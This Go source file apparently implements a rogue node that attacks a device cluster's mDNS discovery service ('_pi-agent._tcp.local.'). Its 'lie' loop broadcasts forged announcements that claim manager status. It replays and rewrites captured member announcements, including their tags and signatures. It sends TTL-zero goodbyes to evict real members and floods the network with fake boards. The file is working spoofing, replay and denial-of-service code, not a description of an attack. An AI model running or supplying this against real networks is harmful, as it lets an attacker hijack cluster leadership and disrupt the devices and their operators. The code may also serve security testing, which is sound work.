package main

import (
	"fmt"
	"log"
	"math/rand/v2"
	"net"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"
)

// lie announces, in each round: the rogue as a manager without a key; the same with the tag and the signature of each
// member that was heard; the member's own announcement, sent again from here, as it was, as that of a manager, and as a
// goodbye; and a crowd of boards that do not exist.
func (r *rogue) lie(group *ipv4.PacketConn, pause time.Duration, crowd int) {
	for range time.Tick(pause) {
		myself := announced{serial: serial, cluster: "pi", state: "manager", swarm: swarmID}
		packets := [][]byte{r.announcement(myself)}
		if len(r.victims()) == 0 {
			packets = append(packets, question())
		}
		for _, v := range r.victims() {
			packets = append(packets, v.packet, stolen(v.packet, 120), stolen(v.packet, 0))
			myself.cluster, myself.tag, myself.mac = v.cluster, v.tag, v.mac
			packets = append(packets, r.announcement(myself))
		}
		for range crowd {
			n := rand.Uint64()
			packets = append(packets, r.announcement(announced{
				serial: fmt.Sprintf("%016x", n), cluster: fmt.Sprintf("c%x", n>>32), state: "manager", swarm: swarmID,
				tag: fmt.Sprintf("%012x", n>>16), mac: "AAAAAAAAAAAAAAAAAAAAAA",
			}))
		}
		for _, p := range packets {
			if _, err := group.WriteTo(p, nil, mdnsGroup); err != nil {
				log.Print(err)
			}
		}
	}
}

// announced is what an announcement says.
type announced struct {
	serial, cluster, state, swarm string
	tag, mac                      string   // none without a tag
	more                          []string // further strings, before the others
}

func (r *rogue) announcement(a announced) []byte {
	host := "pi-" + a.serial
	instance := host + "._pi-agent._tcp.local."
	head := func(name string, kind uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: 120}
	}
	txt := append(a.more, "v=1", "serial="+a.serial, "cluster="+a.cluster, "state="+a.state, "swarm="+a.swarm)
	if a.tag != "" {
		txt = append(txt, "tag="+a.tag, "mac="+a.mac)
	}
	return pack(&dns.Msg{MsgHdr: dns.MsgHdr{Response: true, Authoritative: true}, Compress: true, Answer: []dns.RR{
		&dns.PTR{Hdr: head("_pi-agent._tcp.local.", dns.TypePTR), Ptr: instance},
		&dns.SRV{Hdr: head(instance, dns.TypeSRV), Port: 2378, Target: host + ".local."},
		&dns.TXT{Hdr: head(instance, dns.TypeTXT), Txt: txt},
		&dns.A{Hdr: head(host+".local.", dns.TypeA), A: net.IP(r.addr.AsSlice())},
	}})
}

// question makes the members announce themselves.
func question() []byte {
	return pack(new(dns.Msg).SetQuestion("_pi-agent._tcp.local.", dns.TypePTR))
}

// stolen is a member's announcement that says that it is a manager, for this lifetime; 0 makes a goodbye of it.
func stolen(packet []byte, ttl uint32) []byte {
	var msg dns.Msg
	if msg.Unpack(packet) != nil {
		return packet
	}
	for _, rr := range msg.Answer {
		rr.Header().Ttl = ttl
		if txt, ok := rr.(*dns.TXT); ok && ttl > 0 {
			txt.Txt = append([]string{"state=manager"}, txt.Txt...) // the first one counts
		}
	}
	return pack(&msg)
}

func pack(msg *dns.Msg) []byte {
	p, err := msg.Pack()
	if err != nil {
		log.Fatal(err)
	}
	return p
}
